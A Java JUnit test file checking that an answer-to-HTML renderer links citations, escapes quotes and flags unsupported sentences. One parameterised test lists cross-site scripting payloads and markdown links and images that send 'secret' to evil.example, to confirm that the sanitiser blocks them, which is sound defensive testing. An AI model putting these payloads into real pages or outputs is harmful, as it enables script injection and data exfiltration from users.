package io.cloister.answering;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerHtmlTests {

  @Test
  void linksMarksToTheSourcesThatThereAre() {
    assertThat(AnswerHtml.of("Kept six months [1][2]. Else not [9].", "source", Set.of(1, 2)))
        .isEqualTo(
            "<p>Kept six months<a class=\"cite\" href=\"#source-1\">1</a><a class=\"cite\""
                + " href=\"#source-2\">2</a>. Else not.</p>\n");
  }

  @Test
  void keepsListsAndEmphasis() {
    assertThat(AnswerHtml.of("- **Six** months [1]\n- ten years", "s", Set.of(1)))
        .contains("<ul>", "<strong>Six</strong> months<a class=\"cite\" href=\"#s-1\">1</a>");
  }

  @Test
  void leavesQuotesAsTheyStand() {
    var quote = "2. Keep *all* invoices <ten> years\n    # not code";
    var words =
        new Answer.Words(
            List.of(new CheckedSentence("", quote + " [1]", List.of(1), "supported", List.of())),
            List.of());

    assertThat(AnswerHtml.ofQuotes(words, "s"))
        .contains("2. Keep *all* invoices &lt;ten&gt; years")
        .contains("# not code")
        .doesNotContain("<ol>", "<em>", "<pre>", "<h1>");
  }

  @Test
  void marksWhatIsNotSupportedEvenAcrossEmphasis() {
    var words =
        new Answer.Words(
            List.of(
                new CheckedSentence("", "Kept *six months.", List.of(1), "supported", List.of()),
                new CheckedSentence(" ", "Most ask* for two.", List.of(), "uncited", List.of()),
                new CheckedSentence("\n- ", "x", List.of(), "unsupported", List.of())),
            List.of());

    var html = AnswerHtml.of(words, "s");

    assertThat(html).contains("<span class=\"unsupported\">").doesNotContain("\ue000", "\ue001");
    assertThat(html.split("<span", -1)).hasSameSizeAs(html.split("</span>", -1));
    assertThat(html.split("<em>", -1)).hasSameSizeAs(html.split("</em>", -1));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example/?q=secret)",
        "[click][1]\n\n[1]: https://evil.example/?q=secret",
        "[a](javascript:alert(1))",
        "<https://evil.example/?q=secret>",
        "[1](https://evil.example/?q=secret)",
        "<a href=\"#s-1\" onclick=\"alert(1)\">x</a>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<span class=\"cite\" style=\"position:fixed\">x</span>",
        "[1\" onmouseover=\"alert(1)]",
        "\ue000<svg onload=alert(1)>\ue001",
      })
  void letsNothingThrough(String hostile) {
    var html = AnswerHtml.of(hostile, "s", Set.of(1));

    assertThat(html.replaceAll("<a class=\"cite\" href=\"#s-1\">1</a>", ""))
        .doesNotContainPattern("(?i)<(?!/?(?:p|ul|ol|li|strong|em|code|pre|blockquote|br|hr)\\b)")
        .doesNotContainPattern("(?i)<[^>]*(?:href|src|on\\w+|style|class)\\s*=");
  }
}
